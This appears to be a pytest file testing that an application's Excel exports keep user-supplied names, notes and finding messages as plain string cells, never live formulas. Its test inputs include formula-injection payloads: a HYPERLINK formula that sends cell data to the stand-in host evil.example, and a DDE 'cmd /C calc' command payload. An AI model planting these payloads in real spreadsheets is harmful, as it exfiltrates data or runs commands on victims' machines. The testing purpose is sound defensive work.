"""Every text a user wrote leaves in every workbook as a plain string, never a live formula
(issue 15.6); the template's example contact is a reserved .example name (15.16)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from api.excel import export_workbook, template_workbook
from dashboards.reports import findings_workbook, ranking_workbook
from projects.model import Category, Kind, Level, Milestone, Portfolio, Project, Unit
from rules.findings import Evaluation, EvaluationRates, Finding
from rules.views import Rates

EVIL = ('=HYPERLINK("http://evil.example/x?"&A2,"详情")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)")


def _portfolio(name: str) -> Portfolio:
    return Portfolio(
        units=(Unit("transport", name),),
        projects=(Project("P002", name, Category.PROJECT, "transport", milestones=(
            Milestone("P002", "contract", name, Kind.CONTRACT, due=dt.date(2026, 10, 21), note=name),)),),
    )


def _cells(body: bytes) -> list[tuple[object, str]]:
    wb = load_workbook(io.BytesIO(body))
    return [(c.value, c.data_type) for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("evil", EVIL)
def test_no_user_text_becomes_a_formula_in_any_workbook(evil: str) -> None:
    """A name, note and finding message that look like formulas are string cells in portfolio, findings and ranking workbooks."""
    portfolio = _portfolio(evil)
    finding = Finding("contract_overdue", evil, "milestone:P002/contract", Level.RED, evil, ("transport",), None,
                      (), "P002", "transport")
    score = dataclasses.make_dataclass("Row", ["rank", "unit", "value"])(1, "transport", 0.5)
    evaluation = Evaluation(dt.date(2026, 12, 2), (finding,), EvaluationRates(Rates(None), {}, {}),
                            {"总分": (score,)})
    for body in (export_workbook(portfolio, [finding], {}), findings_workbook(portfolio, evaluation),
                 ranking_workbook(portfolio, evaluation)):
        cells = _cells(body)
        assert all(kind != "f" for _, kind in cells), [c for c in cells if c[1] == "f"]
        assert any(value == evil or (isinstance(value, str) and evil in value) for value, _ in cells)


def test_the_template_workbooks_example_contact_is_a_reserved_name() -> None:
    """No deliverable address in the template: its contacts end in .example."""
    contacts = [v for v, _ in _cells(template_workbook()) if isinstance(v, str) and "://" in v]
    assert contacts and all(c.split("@")[-1].endswith(".example") for c in contacts)
